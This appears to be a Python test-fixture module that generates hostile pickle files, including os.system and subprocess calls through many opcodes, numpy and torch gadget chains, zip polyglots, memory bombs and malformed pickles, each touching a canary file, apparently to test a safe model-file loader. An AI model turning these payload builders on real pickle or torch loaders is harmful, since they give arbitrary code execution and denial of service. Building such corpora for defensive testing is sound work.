"""Pickles that try to do something: each, loaded by the pickle module or torch, would touch `canary` or eat memory."""

from __future__ import annotations

import io
import os
import pickle
import struct
import zipfile
from pathlib import Path
from typing import Any

PROTOCOLS = (0, 1, 2, 3, 4, 5)


class _Reduce:
    """Pickles as a call."""

    def __init__(self, *call: Any) -> None:
        self.call = call

    def __reduce__(self) -> Any:
        return self.call


def _text(text: str) -> bytes:
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _global(name: str) -> bytes:
    module, _, attribute = name.rpartition(".")
    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"


def _call(name: str, *arguments: bytes) -> bytes:
    return _global(name) + b"(" + b"".join(arguments) + b"tR"


def hostile_pickles(canary: Path) -> dict[str, bytes]:
    """Return the content of each hostile file by name."""
    touch = f"touch {canary}"
    python = f"open({str(canary)!r}, 'w').close()"
    files: dict[str, bytes] = {
        f"os.system, protocol {number}": pickle.dumps(_Reduce(os.system, (touch,)), protocol=number)
        for number in PROTOCOLS
    }
    files |= _calls(touch, python, canary)
    files |= _machinery(touch)
    files |= _gadgets(touch, python)
    files |= memory_bombs()
    files |= _broken()
    files |= _polyglots(canary, touch)
    return files


def _calls(touch: str, python: str, canary: Path) -> dict[str, bytes]:
    """Calls of things that exist everywhere."""
    nested = pickle.dumps([[[0.5, 1.0, 2.0]], [[_Reduce(os.system, (touch,)), 1.0, 2.0]]])
    calls = {
        "builtins.eval": ("builtins.eval", python),
        "builtins.exec": ("builtins.exec", python),
        "builtins.open": ("builtins.open", str(canary)),
        "builtins.__import__": ("builtins.__import__", "antigravity"),
        "__builtin__.eval": ("__builtin__.eval", python),
        "subprocess.check_output": ("subprocess.check_output", touch),
        "posix.system": ("posix.system", touch),
        "pty.spawn": ("pty.spawn", touch),
        "runpy.run_path": ("runpy.run_path", str(canary)),
        "importlib.import_module": ("importlib.import_module", "this"),
        "pickle.loads": ("pickle.loads", python),
        "code.interact": ("code.InteractiveInterpreter", python),
    }
    files = {name: b"\x80\x02" + _call(target, _text(argument)) + b"." for name, (target, argument) in calls.items()}
    getattr_chain = _call("builtins.getattr", _call("builtins.__import__", _text("os")), _text("system"))
    return files | {
        "os.system deep in the data": nested,
        "builtins.getattr": b"\x80\x02" + getattr_chain + b"(" + _text(touch) + b"tR.",
        "a call in a key": b"\x80\x02}" + _call("os.system", _text(touch)) + b"K\x01s.",
        "a call thrown away": b"\x80\x02" + _call("os.system", _text(touch)) + b"0]]K\x01aa.",
        "dotted name": b"\x80\x04"
        + b"\x8c\x08builtins"
        + b"\x8c\x0deval.__call__"
        + b"\x93"
        + b"("
        + _text(python)
        + b"tR.",
    }


def _machinery(touch: str) -> dict[str, bytes]:
    """Other ways of the language to make something happen."""
    argument = _text(touch)
    return {
        "INST": b"(S'" + touch.encode() + b"'\nios\nsystem\n.",
        "OBJ": b"(" + _global("os.system") + argument + b"o.",
        "NEWOBJ": b"\x80\x02" + _global("subprocess.Popen") + b"(" + argument + b"t\x81.",
        "NEWOBJ_EX": b"\x80\x04" + _global("subprocess.Popen") + b"(" + argument + b"t}\x92.",
        "BUILD with __setstate__": b"\x80\x02]}"
        + _text("__setstate__")
        + _global("os.system")
        + b"sb"
        + argument
        + b"b.",
        "BUILD on a function": b"\x80\x02" + _global("os.system") + b"}" + argument + b"K\x01sb.",
        "PERSID": b"P" + touch.encode() + b"\n.",
        "BINPERSID": b"\x80\x02" + argument + b"Q.",
        "EXT1": b"\x80\x02\x82\x01.",
        "STACK_GLOBAL from the memo": b"\x80\x04\x8c\x02os\x94\x8c\x06system\x940"
        + b"0h\x00h\x01\x93("
        + argument
        + b"tR.",
        "call of a list": b"\x80\x02](" + argument + b"tR.",
        "out-of-band buffer": b"\x80\x05\x97.",
        "module name with a path": b"\x80\x02" + b"c../../evil\nrun\n(tR.",
    }


def _gadgets(touch: str, python: str) -> dict[str, bytes]:
    """Callables of numpy and torch that load, compile or run things, and abuse of the few names that are known."""
    names = (
        "numpy.load", "numpy.f2py.crackfortran.myeval", "numpy.testing._private.utils.runstring",
        "numpy.distutils.exec_command", "torch.load", "torch.hub.load", "torch.jit.load", "torch.ops.load_library",
        "torch.utils.cpp_extension.load_inline", "torch.utils._config_module.ConfigModule.load_config",
        "torch.utils.collect_env.run", "torch._dynamo.guards.GuardBuilder.get", "torch.serialization.load",
        "torch.storage._load_from_bytes.__globals__", "collections.namedtuple", "functools.partial",
        "operator.attrgetter", "copyreg._reconstructor", "types.FunctionType",
    )  # fmt: skip
    files = {name: b"\x80\x02" + _call(name, _text(python)) + b"." for name in names}
    inner = pickle.dumps(_Reduce(os.system, (touch,)), protocol=2)
    legacy = b"".join(
        pickle.dumps(part, protocol=2)
        for part in (0x1950A86A20F9469CFC6C, 1001, {"protocol_version": 1001, "little_endian": True, "type_sizes": {}})
    )
    raw = b"C" + bytes([len(inner)]) + inner
    packed = b"B" + struct.pack("<I", len(legacy + inner)) + legacy + inner
    storage = _call("torch.storage._load_from_bytes", packed)
    array = _call("numpy.core.multiarray._reconstruct", _global("numpy.ndarray"), b"K\x00\x85", b"C\x01b")
    objects = (
        b"(K\x01K\x03\x85"
        + _call("numpy.dtype", _text("O8"))
        + b"\x89]("
        + _call("os.system", _text(touch))
        + b"et"
        + b"b"
    )
    return files | {
        "storage with a pickle inside": b"\x80\x03" + storage + b".",
        "tensor on a storage with a pickle inside": b"\x80\x03"
        + _call("torch._utils._rebuild_tensor_v2", storage, b"K\x00", b"K\x01\x85", b"K\x01\x85", b"\x89", b"}")
        + b".",
        "storage that is a bare pickle": b"\x80\x03"
        + _call(
            "torch._utils._rebuild_tensor_v2",
            _call("torch.storage._load_from_bytes", raw),
            b"K\x00",
            b")",
            b")",
            b"\x89",
            b"}",
        )
        + b".",
        "array of objects": b"\x80\x03" + array + objects + b".",
        "array of an unknown class": b"\x80\x03"
        + _call("numpy.core.multiarray._reconstruct", _text("subprocess.Popen"), b"K\x00\x85", b"C\x01b")
        + b".",
        "array larger than its bytes": b"\x80\x03"
        + array
        + b"(K\x01\x8a\x06\x00\x00\x00\x00\x00\x01\x85"
        + _call("numpy.dtype", _text("f8"))
        + b"\x89C\x08aaaaaaaatb.",
        "dtype of a name": b"\x80\x03" + _call("numpy.dtype", _text(python)) + b".",
        "bytes in rot13": b"\x80\x03" + _call("_codecs.encode", _text(python), _text("rot13")) + b".",
        "ordered dict of a call": b"\x80\x03" + _call("collections.OrderedDict", _global("os.system")) + b".",
    }


def memory_bombs() -> dict[str, bytes]:
    """Small files that ask for much memory or time."""
    laughs = b"\x80\x02]q\x00" + b"".join(
        b"](" + b"h" + bytes([level]) * 1 + b"h" + bytes([level]) + b"eq" + bytes([level + 1]) for level in range(60)
    )
    tuples = b"\x80\x02)" + b"".join(b"2\x86" for _ in range(60))
    return {
        "billion laughs": laughs + b".",
        "billion tuples": tuples + b".",
        "list in itself": b"\x80\x02]q\x00h\x00a.",
        "dict in itself": b"\x80\x02}q\x00K\x01h\x00s.",
        "deep lists": b"]" * 200_000 + b"a" * 199_999 + b".",
        "deep tuples": b")" + b"\x85" * 200_000 + b".",
        "deep tuples as a key": b"})" + b"\x85" * 200_000 + b"K\x01s.",
        "long integer": b"\x80\x02\x8b" + struct.pack("<i", 2**31 - 1) + b"\x01" * 64 + b".",
        "long integer as text": b"L" + b"9" * 500_000 + b"L\n.",
        "long bytes": b"\x80\x04\x8e" + struct.pack("<Q", 2**62) + b"a.",
        "long frame": b"\x80\x04\x95" + struct.pack("<Q", 2**62) + b"K\x01.",
        "marks": b"(" * 500_000 + b".",
        "empty sets": b"\x80\x04](" + b"\x8f" * 1_000_000,
    }


def _broken() -> dict[str, bytes]:
    """Files that end early or hold what no pickle does."""
    good = pickle.dumps([[[0.5, 1.0, 2.0], [1.5, 1.0, 2.0]]], protocol=4)
    return {
        "only a stop": b".",
        "only zeros": b"\x00" * 64,
        "cut in a frame": good[:20],
        "cut before the stop": good[:-1],
        "protocol 200": b"\x80\xc8" + good[2:],
        "unknown opcode": b"\x80\x02\xff.",
        "append to a number": b"\x80\x02K\x01K\x02a.",
        "pop of nothing": b"0.",
        "reference to nothing": b"\x80\x02h\x07.",
        "two values": b"\x80\x02K\x01K\x02.",
        "name as the value": b"\x80\x02cnumpy\ndtype\n.",
        "mark as the value": b"\x80\x02(.",
        "random bytes": bytes((index * 197 + 31) % 256 for index in range(2000)),
    }


def _polyglots(canary: Path, touch: str) -> dict[str, bytes]:
    """Files that are two things at once."""
    hostile = pickle.dumps(_Reduce(os.system, (touch,)), protocol=2)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", hostile)
        archive.writestr("archive/version", "3")
    return {
        "zip of torch": buffer.getvalue(),
        "pickle before a zip": hostile + buffer.getvalue(),
        "good pickle before a bad one": pickle.dumps([[0.5]])[:-1] + b"0" + hostile,
        "python program": f"open({str(canary)!r}, 'w').close()\n".encode(),
    }
